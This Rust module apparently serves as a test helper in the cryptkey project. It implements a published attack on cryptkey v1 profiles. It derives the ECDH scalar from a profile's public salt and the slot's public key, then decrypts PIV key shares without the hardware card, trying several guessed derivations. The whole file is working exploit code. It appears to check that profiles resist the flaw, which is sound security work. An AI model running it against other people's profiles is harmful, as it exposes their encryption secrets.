//! The published attack on cryptkey v1's profiles: opens PIV shares with no card.
//!
//! There the peer scalar s is derived from the salt, so x(s·Q), with the slot's public key Q from
//! the file, is the very value that the card computes. This has its own code for all of it and
//! shares none with `src`. For good measure it also tries every other x-coordinate that a profile
//! gives away, and both schemes' derivations of each.

use aes_gcm::{
    Aes256Gcm, KeyInit as _,
    aead::{Aead as _, Payload},
};
use hkdf::Hkdf;
use p256::{
    AffinePoint, NistP256, ProjectivePoint, Scalar,
    elliptic_curve::{
        PrimeField as _,
        point::AffineCoordinates as _,
        sec1::{FromSec1Point as _, Sec1Point, ToSec1Point as _},
    },
    hash2curve::{ExpandMsgXmd, hash_from_bytes},
};
use sha2::Sha256;

/// The ids of the PIV providers whose share opens without any card, from a profile's text.
pub fn opened_without_a_card(profile: &str) -> Vec<String> {
    let file: toml::Table = toml::from_str(profile).unwrap();
    let providers = file["providers"].as_array().unwrap();
    providers
        .iter()
        .filter(|provider| provider["type"].as_str() == Some("piv") && opens(provider))
        .map(|provider| provider["id"].as_str().unwrap().to_owned())
        .collect()
}

fn opens(provider: &toml::Value) -> bool {
    let bytes = |value: &toml::Value| base16ct::mixed::decode_vec(value.as_str().unwrap()).unwrap();
    let params = &provider["params"];
    let salt = bytes(&params["salt"]);
    let key = point(&bytes(&params["public_key"]));

    let s = scalar(&salt);
    let derived = ProjectivePoint::GENERATOR * s;
    let dst: &[u8] = b"nixos-cryptkey-V01-with-P256_XMD:SHA-256_SSWU_RO_";
    let hashed = hash_from_bytes::<NistP256, ExpandMsgXmd<Sha256>>(&[&salt], &[dst]).unwrap();

    let share_salt = bytes(&provider["share_salt"]);
    let sealed = bytes(&provider["encrypted_share"]);
    let nonce: [u8; 12] = bytes(&provider["nonce"]).try_into().unwrap();
    let aad = format!("piv:{}", provider["id"].as_str().unwrap());
    let opens_with = |secret: &[u8; 32]| {
        let share_key = hkdf(secret, &share_salt, &[b"cryptkey-share-encryption"]);
        Aes256Gcm::new(&share_key.into())
            .decrypt(&nonce.into(), Payload { msg: &sealed, aad: aad.as_bytes() })
            .is_ok()
    };

    [key * s, key, derived, hashed, key + hashed, key - hashed, key + derived, hashed * s]
        .into_iter()
        .any(|guess| {
            let x = guess.to_affine().x();
            let mut secrets = vec![hkdf(&x, &salt, &[b"cryptkey-piv-provider"])];
            for peer in [hashed, derived] {
                for key in [key, -key] {
                    let info: [&[u8]; 3] =
                        [b"cryptkey-piv-hash-to-curve", &encoded(peer), &encoded(key)];
                    secrets.push(hkdf(&x, &salt, &info));
                }
            }
            secrets.iter().any(opens_with)
        })
}

fn hkdf(ikm: &[u8], salt: &[u8], info: &[&[u8]]) -> [u8; 32] {
    let mut out = [0; 32];
    Hkdf::<Sha256>::new(Some(salt), ikm).expand_multi_info(info, &mut out).unwrap();
    out
}

/// (64 derived bytes modulo n − 1) + 1. The remainder is taken by hand, bit by bit: the scalars'
/// own arithmetic is modulo n.
fn scalar(salt: &[u8]) -> Scalar {
    let mut wide = [0; 64];
    Hkdf::<Sha256>::new(None, salt).expand(b"cryptkey-piv-ecdh-scalar", &mut wide).unwrap();
    let order_less_one = limbs(&(-Scalar::from(2u64)).to_repr(), 1);
    let mut rest = [0u64; 5];
    for bit in (0..512).map(|i| wide[i / 8] >> (7 - i % 8) & 1) {
        let mut carry = u64::from(bit);
        for limb in &mut rest {
            (*limb, carry) = (*limb << 1 | carry, *limb >> 63);
        }
        let mut less = rest;
        let mut borrow = false;
        for (limb, other) in less.iter_mut().zip(order_less_one) {
            let (first, under) = limb.overflowing_sub(other);
            let (second, under_again) = first.overflowing_sub(u64::from(borrow));
            (*limb, borrow) = (second, under || under_again);
        }
        if !borrow {
            rest = less;
        }
    }
    let mut bytes = [0; 32];
    for (chunk, limb) in bytes.rchunks_mut(8).zip(rest) {
        chunk.copy_from_slice(&limb.to_be_bytes());
    }
    Scalar::from_repr(bytes.into()).unwrap() + Scalar::ONE
}

/// Big-endian bytes as little-endian limbs, plus a small number that carries no further.
fn limbs(bytes: &[u8], plus: u64) -> [u64; 5] {
    let mut limbs = [0; 5];
    for (limb, chunk) in limbs.iter_mut().zip(bytes.rchunks(8)) {
        *limb = u64::from_be_bytes(chunk.try_into().unwrap());
    }
    limbs[0] += plus;
    limbs
}

fn point(bytes: &[u8]) -> ProjectivePoint {
    let encoded = Sec1Point::<NistP256>::from_bytes(bytes).unwrap();
    AffinePoint::from_sec1_point(&encoded).unwrap().into()
}

fn encoded(point: ProjectivePoint) -> Vec<u8> {
    point.to_affine().to_sec1_point(false).as_bytes().to_vec()
}
